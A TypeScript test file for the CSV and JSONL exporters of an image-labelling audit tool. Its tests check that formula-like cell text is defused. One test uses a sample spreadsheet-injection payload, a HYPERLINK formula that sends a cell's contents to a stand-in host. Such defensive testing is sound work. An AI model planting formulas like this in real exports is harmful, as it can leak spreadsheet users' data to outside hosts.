import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { csvExporter } from '../../src-main/exporters/csv.ts';
import { csvLine } from '../../src-main/exporters/csv-line.ts';
import { jsonlExporter } from '../../src-main/exporters/jsonl.ts';
import type { ExportSample } from '../../src-main/exporters/types.ts';
import { drawLabels, exportSample } from '../support/export-samples.ts';

let dir = '';
before(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'fovea-csv-'));
});
after(() => rm(dir, { recursive: true, force: true }));

const SPOT = drawLabels([
  '........',
  '........',
  '..##....',
  '..##....',
  ...Array<string>(4).fill('........'),
]);

/** RFC 4180 as it is written, with nothing of the writer's: rows of cells; null for a cell without even quotes. */
function parse(text: string): (string | null)[][] {
  const rows: (string | null)[][] = [];
  let row: (string | null)[] = [];
  for (let at = 0; at < text.length;) {
    let cell: string | null = null;
    if (text[at] === '"') {
      cell = '';
      for (at++; ; at++) {
        if (text[at] === '"' && text[at + 1] !== '"') break;
        if (text[at] === '"') at++;
        cell += text[at];
      }
      at++;
    } else {
      const end = /[,\r]/.exec(text.slice(at))!.index + at;
      if (end > at) cell = text.slice(at, end);
      at = end;
    }
    row.push(cell);
    if (text[at] === ',') at++;
    else {
      assert.equal(text.slice(at, at + 2), '\r\n');
      at += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

async function records(samples: readonly ExportSample[], includeUnreviewed = false) {
  const file = path.join(await mkdtemp(path.join(dir, 'out-')), 'audit.csv');
  const counts = await csvExporter.export(samples, file, { includeUnreviewed });
  const [names, ...rows] = parse(await readFile(file, 'utf8'));
  for (const row of rows) assert.equal(row.length, names!.length);
  return {
    counts,
    rows: rows.map((row) => Object.fromEntries(names!.map((name, i) => [name!, row[i]!]))),
  };
}

describe('a line of CSV', () => {
  it('a text that begins as a formula does is marked, and what began with the mark is too', () => {
    const harmful = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '＝1', '＠x', "'=1", "'", '\n'];
    for (const text of harmful) {
      const { line, defused } = csvLine([text]);
      const [[cell]] = parse(line) as [[string]];
      assert.equal(defused, 1, JSON.stringify(text));
      assert.equal(cell, `'${text}`);
    }
    for (const text of ['a=1', '1-2', 'é@b', '', ' plain', '答案', '[1]']) {
      assert.equal(csvLine([text]).defused, 0, text);
    }
    assert.equal(csvLine([-0.5, 1e21, null, '']).line, '-0.5,1e+21,,""\r\n');
  });

  it('any text comes back as it was, with one mark taken off the front', () => {
    const unmarked = (cell: string | null) => (cell?.startsWith("'") ? cell.slice(1) : cell);
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', "'", '=', ' ', '\t', 'a', '；') }),
    );
    fc.assert(
      fc.property(fc.array(fc.option(text), { minLength: 1 }), (cells) => {
        const [row, ...none] = parse(csvLine(cells).line);
        assert.deepEqual(
          [row!.map(unmarked), none],
          [cells.map((cell) => cell?.replaceAll('\0', '\ufffd') ?? null), []],
        );
      }),
    );
  });
});

describe('csv of the audit', () => {
  it('has a line for every decision, rejected ones with their reason, and says boxes in source pixels', async () => {
    const states = ['accepted', 'corrected', 'rejected', 'pending', 'unlabelled'] as const;
    const samples = states.map((state, i) => exportSample({ id: i + 1, ...SPOT, state }));
    const { counts, rows } = await records(samples);
    assert.deepEqual([counts.done, counts.skipped], [3, { unreviewed: 2 }]);
    assert.deepEqual(
      rows.map((row) => [
        row['question_id'],
        row['decision'],
        row['reviewer'],
        row['reason'],
        row['label_box'],
      ]),
      [
        // Row 2 of the squared picture is pixels 0 to 9 of the 80×40 one.
        ['q-1', 'accept', 'ada', null, '[20,0,40,20]'],
        ['q-2', 'correct', 'ada', null, '[20,0,40,20]'],
        ['q-3', 'reject', 'ada', 'blurred', null],
      ],
    );
    assert.deepEqual(
      [rows[0]!['tags'], rows[0]!['disagreement'], rows[0]!['uncertainty'], rows[0]!['preset']],
      ['["a","b"]', '0.25', null, 'llava-test'],
    );
    const all = await records(samples, true);
    assert.deepEqual(
      all.rows.map((row) => [row['state'], row['model_answer']]),
      [
        ['accepted', 'answer 1'],
        ['corrected', 'answer 2'],
        ['rejected', 'answer 3'],
        ['pending', 'answer 4'],
        ['unlabelled', null],
      ],
    );
  });

  it('what data brings along is never run by a spreadsheet, and is counted', async () => {
    const sample = exportSample({ ...SPOT });
    const evil = '=HYPERLINK("http://x.example/"&A1,"open")';
    const { counts, rows } = await records([{ ...sample, question: evil, externalId: '@q' }]);
    assert.deepEqual(counts.notes, { formulas_made_harmless: 2 });
    assert.deepEqual([rows[0]!['question'], rows[0]!['question_id']], [`'${evil}`, "'@q"]);
  });
});

describe('jsonl of the audit', () => {
  it('has rejected samples and every decision, also of what has no label', async () => {
    const trail = {
      revisions: [
        {
          id: 1,
          decision: 'accept',
          label: SPOT.label,
          reviewer: 'bo',
          note: null,
          reason: null,
          createdAt: '2026-01-01T00:00:00.000Z',
          predictionId: 10,
        },
        {
          id: 2,
          decision: 'reject',
          label: null,
          reviewer: 'ada',
          note: 'n',
          reason: 'blurred',
          createdAt: '2026-01-02T00:00:00.000Z',
          predictionId: 10,
        },
      ],
      flags: ['bad_data'],
      notes: [{ text: 'see above', reviewer: 'bo', createdAt: '2026-01-03T00:00:00.000Z' }],
    } as const;
    const file = path.join(dir, 'audit.jsonl');
    const rejected = { ...exportSample({ id: 1, ...SPOT, state: 'rejected' }), trail };
    const samples = [rejected, exportSample({ id: 2, ...SPOT, state: 'unlabelled' })];
    const counts = await jsonlExporter.export(samples, file, { includeUnreviewed: true, audit: true });
    assert.deepEqual([counts.done, counts.skipped], [2, {}]);
    const lines = (await readFile(file, 'utf8'))
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    assert.deepEqual(
      lines.map((line) => [line['schema'], line['state'], line['label'], line['grid']]),
      [
        ['fovea.audit/1', 'rejected', null, [8, 8]],
        ['fovea.audit/1', 'unlabelled', null, null],
      ],
    );
    assert.deepEqual(lines[0]!['review'], {
      id: 100,
      decision: 'reject',
      reviewer: 'ada',
      note: null,
      reason: 'blurred',
      created_at: '2026-01-02T00:00:00.000Z',
    });
    assert.deepEqual(lines[0]!['flags'], ['bad_data']);
    assert.deepEqual(
      (lines[0]!['revisions'] as { decision: string; label: number[] | null; reason?: string }[]).map((r) => [
        r.decision,
        r.label?.length ?? null,
        r.reason ?? null,
      ]),
      [
        ['accept', 64, null],
        ['reject', null, 'blurred'],
      ],
    );
  });
});
